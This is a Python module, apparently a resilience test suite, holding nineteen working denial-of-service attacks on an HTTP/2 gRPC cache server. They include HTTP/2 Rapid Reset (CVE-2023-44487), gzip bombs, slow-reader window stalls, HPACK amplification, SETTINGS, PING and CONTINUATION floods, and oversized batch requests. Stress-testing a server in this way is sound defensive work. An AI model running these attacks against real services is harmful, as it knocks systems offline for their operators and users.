"""The attacks. Each is a function that attacks a port once. The driver calls it repeatedly until the time is over."""

from __future__ import annotations

import gzip
import random
import time
from collections.abc import Callable

from frames import (
    CONTINUATION,
    CREATE_CACHE,
    DATA,
    END_HEADERS,
    END_STREAM,
    GET,
    HEADERS,
    KEYS_EXIST,
    MOST_WINDOW,
    PING,
    PIPELINE,
    SET,
    Link,
    call,
    field,
    frame,
    grpc,
    header,
    in_data,
    noise,
    reset,
    settings,
    window,
)

# The keys of two values that the driver sets before the attacks: one of 4.99 MB, which is about the maximum, and one of
# 16 KB.
LARGE, MIDDLE = b"large", b"middle"
PLAIN = call(GET)
# The time limit in seconds of one call of an attack. It is short, so that each attack is repeated often.
SECONDS = 10


def gets(count: int, key: bytes, first: int = 1) -> bytes:
    ids = range(first, first + 2 * count, 2)
    return b"".join(frame(HEADERS, END_HEADERS, n, PLAIN) + frame(DATA, END_STREAM, n, grpc(field(1, key))) for n in ids)


def until_closed(link: Link, make: Callable[[int], bytes], pause_s: float = 0) -> None:
    """Send `make(0)`, `make(1)`, … until the server closes the connection or SECONDS are over."""
    end, turn = time.monotonic() + SECONDS, 0
    while time.monotonic() < end and not link.gone:
        link.send(make(turn))
        turn += 1
        time.sleep(pause_s)


def batch_bomb(port: int) -> None:
    """Send pipelined batches of a few kilobytes that each request the largest value 380 times."""
    link = Link(port, (4, MOST_WINDOW))
    body = grpc(field(1, field(1, 7) + field(14, field(1, field(1, LARGE)) * 380)))
    link.send(window(0, 1 << 30) + frame(HEADERS, END_HEADERS, 1, call(PIPELINE)))
    until_closed(link, lambda _: in_data(1, body, 0), 0.5)


def unary_batch_bomb(port: int) -> None:
    """Send unary batches of a few kilobytes that each request the largest value 380 times, with closed windows."""
    link = Link(port, (4, 0))
    body = grpc(field(1, field(1, LARGE)) * 380)
    block = call("/cache_client.Scs/GetBatch")
    link.send(b"".join(frame(HEADERS, END_HEADERS, n, block) + in_data(n, body) for n in range(1, 41, 2)))
    until_closed(link, lambda _: b"", 0.5)


def slow_reader(port: int) -> None:
    """Send 100 gets of the largest value with closed windows, then open each window by one byte every 8 s."""
    link = Link(port, (4, 0))
    link.send(window(0, MOST_WINDOW - 65_535) + gets(100, LARGE))
    for _ in range(3):
        time.sleep(8)
        link.send(b"".join(window(n, 1) for n in range(1, 201, 2)))


def still_reader(port: int) -> None:
    """Send 100 gets of the largest value with open windows, but never read from the socket."""
    link = Link(port, (4, MOST_WINDOW), reads=False)
    link.send(window(0, MOST_WINDOW - 65_535) + gets(100, LARGE))
    time.sleep(20)


def unfinished_uploads(port: int) -> None:
    """Begin 100 sets of 10 MB on one connection, and complete none of them."""
    link = Link(port)
    block, body = call(SET), b"\0\0\xa0\0\0" + bytes(900_000)
    link.send(b"".join(frame(HEADERS, END_HEADERS, n, block) for n in range(1, 201, 2)))
    for n in range(1, 201, 2):
        link.upload(n, body, 0)
    time.sleep(SECONDS)


def repeated_metadata(port: int) -> None:
    """Send calls that contain one metadata field about 390 times, as a reference to its HPACK index."""
    first = PLAIN + header("grpc-timeout", "1" * 35, 0x40) + b"\xbe" * 390
    rest = PLAIN + b"\xbe" * 391
    link = Link(port)
    until_closed(link, lambda t: b"".join(frame(HEADERS, 5, 1 + 2 * (20 * t + n), rest if t + n else first) for n in range(20)))


def settings_entries(port: int) -> None:
    """Send nine SETTINGS frames per second, with 2,730 window changes each, while 100 responses wait for the window."""
    link = Link(port, (4, 0))
    link.send(window(0, MOST_WINDOW - 65_535) + gets(100, MIDDLE))
    many = settings(*((4, n & 1) for n in range(2_730)))
    until_closed(link, lambda _: many, 0.11)


def window_updates(port: int) -> None:
    """Send window updates of one byte while 100 responses wait for the window."""
    link = Link(port, (4, 0))
    link.send(window(0, MOST_WINDOW - 65_535) + gets(100, MIDDLE))
    many = window(1, 1) * 5_000
    until_closed(link, lambda _: many)


def rapid_resets(port: int) -> None:
    """Reset each call immediately after sending it (CVE-2023-44487)."""
    link = Link(port)
    until_closed(link, lambda t: b"".join(frame(HEADERS, 4, n, PLAIN) + reset(n) for n in range(1 + 200 * t, 201 + 200 * t, 2)))


def pings(port: int) -> None:
    until_closed(Link(port), lambda _: frame(PING, 0, 0, b"attacker") * 1_000)


def continuations(port: int) -> None:
    link = Link(port)
    link.send(frame(HEADERS, 0, 1, PLAIN))
    until_closed(link, lambda _: frame(CONTINUATION, 0, 1) * 100)


def gzip_bombs(port: int) -> None:
    """Send gzip messages of 10 KB that decompress to 10.9 MB."""
    body = grpc(gzip.compress(field(1, b"k") + field(15, bytes(10_900_000))), 1)
    block = call(GET, ("grpc-encoding", "gzip"))
    until_closed(Link(port), lambda t: b"".join(frame(HEADERS, 4, n, block) + in_data(n, body) for n in range(1 + 20 * t, 21 + 20 * t, 2)), 0.2)


def unknown_fields(port: int) -> None:
    """Send a CreateCache request with two million unknown fields."""
    body = grpc(b"".join(field((1 << 18) + n, 1) for n in range(0, 2_000_000)))
    link = Link(port)
    link.send(frame(HEADERS, END_HEADERS, 1, call(CREATE_CACHE)))
    link.upload(1, body)
    time.sleep(1)


def keys_exist(port: int) -> None:
    """Send a KeysExist request of 10 MB: 3.4 million keys of one byte."""
    link = Link(port, (4, MOST_WINDOW))
    link.send(window(0, 1 << 30) + frame(HEADERS, END_HEADERS, 1, call(KEYS_EXIST)))
    link.upload(1, grpc(field(1, b"k") * 3_400_000))
    time.sleep(0.5)


def large_pipeline_messages(port: int) -> None:
    """Send a pipelined message of 10 MB that contains sets."""
    one = field(1, field(1, 3) + field(5, field(1, b"p") + field(2, b"v" * 1_000) + field(3, 60_000)))
    link = Link(port, (4, MOST_WINDOW))
    link.send(window(0, 1 << 30) + frame(HEADERS, END_HEADERS, 1, call(PIPELINE)))
    link.upload(1, grpc(one * (10_000_000 // len(one))), 0)
    time.sleep(0.5)


def idle_after_answers(port: int) -> None:
    """Open 20 connections. On each, request a value of 16 KB 100 times in a single write, then send nothing more."""
    links = [Link(port, (4, 0)) for _ in range(20)]
    for link in links:
        link.send(window(0, MOST_WINDOW - 65_535) + gets(100, MIDDLE) + settings((4, 1 << 20)))
    time.sleep(SECONDS)
    for link in links:
        link.close()


def malformed_headers(port: int) -> None:
    """Send valid calls and calls with an invalid header alternately. Each call is followed by DATA."""
    bad = PLAIN + header("BAD", "x")

    def make(turn: int) -> bytes:
        first = 1 + 4 * turn
        return gets(1, b"k", first) + frame(HEADERS, 4, first + 2, bad) + frame(DATA, 1, first + 2, grpc(field(1, b"k")))

    until_closed(Link(port), make)


def random_frames(port: int) -> None:
    link, ids = Link(port), (0, 1, 1, 3, 5)

    def make(_: int) -> bytes:
        kind, flags = random.choice((random.randrange(256), random.randrange(10))), random.randrange(256)
        return frame(kind, flags, random.choice(ids), random.choice((noise(random.randrange(60)), PLAIN, grpc(field(1, b"k")))))

    until_closed(link, make)


def half_handshakes(port: int) -> None:
    """Open connections that send only part of a TLS handshake, or only one byte of the preface."""
    links = [Link(port, opens=False) for _ in range(50)]
    for n, link in enumerate(links):
        link.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"A" * 40 if n % 2 else b"P")
    time.sleep(SECONDS)
    for link in links:
        link.close()


ALL: tuple[Callable[[int], None], ...] = (
    batch_bomb,
    unary_batch_bomb,
    slow_reader,
    still_reader,
    unfinished_uploads,
    repeated_metadata,
    settings_entries,
    window_updates,
    rapid_resets,
    pings,
    continuations,
    gzip_bombs,
    unknown_fields,
    keys_exist,
    large_pipeline_messages,
    idle_after_answers,
    malformed_headers,
    random_frames,
    half_handshakes,
)
